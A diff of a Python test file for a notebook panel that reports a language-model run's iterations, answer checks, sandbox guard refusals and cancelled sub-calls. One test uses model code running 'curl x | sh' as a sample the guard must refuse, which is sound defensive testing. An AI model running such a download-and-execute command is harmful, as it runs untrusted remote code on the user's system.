@@ -229,14 +229,14 @@ def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finishe
     panel.refresh()
     assert "block 1 not run (rebinds-context)" in text(rows(panel)[0].children[0].value)  # before the turn ends
     assert only(widgets.Accordion, panel.widget).titles[0].endswith(" · block 1 not run")
-    assert "acceptance lenient · no gate refused a FINAL; 1 block not run: rebinds-context" in text(panel.header.value)
+    assert "checks · no answer refused; 1 block not run: rebinds-context (lenient)" in text(panel.header.value)
     first.verdicts.append(Verdict("unseen-value", "refused", note="1976 never appeared in <any> output"))
     panel.observe(IterationFinished(run, first))
     panel.refresh()
     body = rows(panel)[0].children[0].value
     assert "refused by <code>unseen-value</code>: 1976 never appeared in &lt;any&gt; output" in body
     assert only(widgets.Accordion, panel.widget).titles[0].endswith(" · FINAL refused (unseen-value) · block 1 not run")
-    assert "1 refusal: unseen-value; 1 block not run" in text(panel.header.value)
+    assert "1 answer refused and sent back: unseen-value; 1 block not run" in text(panel.header.value)
     second = Iteration(1, "FINAL('south')", verdicts=[Verdict("picked-by-eye", "marked", note="south was read off")])
     panel.observe(RootReplied(run, second))
     panel.observe(IterationFinished(run, second))
@@ -253,7 +253,7 @@ def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finishe
 def test_a_guard_refusal_shows_in_its_row_and_the_header_as_it_happens(finished_panels: list[LivePanel]) -> None:
     panel, run, _ = started(finished_panels, {"guard": "on"}, "```repl\nimport os\nos.system('curl x | sh')\n```")
     panel.refresh()
-    assert "guard · on · nothing refused" in text(panel.header.value)
+    assert "guard · on: the model's code tried nothing it may not do" in text(panel.header.value)
     action = GuardAction("proc", "os.system('curl x | sh')", run_id=run.id, iteration=0, cell=0)
     panel.observe(GuardActed(run, action))  # while the block still runs
     panel.observe(GuardActed(run, GuardAction("net", "connect to 10.0.0.1:80", run_id="child", iteration=0)))
@@ -261,7 +261,7 @@ def test_a_guard_refusal_shows_in_its_row_and_the_header_as_it_happens(finished_
     body = text(rows(panel)[0].children[0].value)
     assert "guard refused proc: os.system('curl x | sh') (iteration 1, block 1)" in body
     assert "10.0.0.1" not in body  # a child run's action is in its own report, inside the sub-call row
-    assert "guard · on · 2 actions refused: proc, net" in text(panel.header.value)
+    assert "guard · on: refused 2 actions of the model's code (proc, net)" in text(panel.header.value)
 
 
 def test_a_thousand_events_between_refreshes_cause_few_renders(finished_panels: list[LivePanel]) -> None:
@@ -353,3 +353,24 @@ def test_the_stop_button_knows_no_kernel_outside_one_and_closes_with_the_panel()
     assert "api/kernels/" in panel.stop._esm and "jupyter-config-data" in panel.stop._esm
     panel.close()
     assert panel.stop.comm is None and panel.widget.comm is None and panel.header.layout.comm is None
+
+
+def test_calls_in_flight_cost_nothing_yet_and_cancelled_ones_are_counted_apart(finished_panels: list[LivePanel]) -> None:
+    panel, run = LivePanel(max_iterations=3), make_run()
+    finished_panels.append(panel)
+    it = Iteration(0, "turn")
+    panel.observe(RunStarted(run))
+    panel.observe(RootReplied(run, it))
+    flying = [call(run, i) for i in (1, 2, 3)]
+    for c in flying:
+        panel.observe(SubCallStarted(run, c))
+    panel.refresh(final=True)
+    [table] = [w for w in walk(panel.widget) if isinstance(w, widgets.HTML) and "rlm-subcalls" in w.value]
+    assert "running" in table.value and "unknown" not in table.value  # nothing is spent before a reply comes
+    for c in flying[1:]:  # the stop: two calls abandoned with their batch
+        c.error, c.cancelled = "cancelled before its reply came (the run or its block was stopped)", True
+        panel.observe(SubCallFinished(run, c))
+    panel.refresh(final=True)
+    count = next(w for w in walk(panel.widget) if isinstance(w, widgets.HTML) and "finished" in w.value)
+    assert text(count.value) == "1 sub-call · 0 finished · 2 cancelled"  # not "2 failed"
+    assert only(widgets.Accordion, panel.widget).titles[0] == "Iteration 1 · 0 code blocks · 1 sub-call and 2 cancelled"
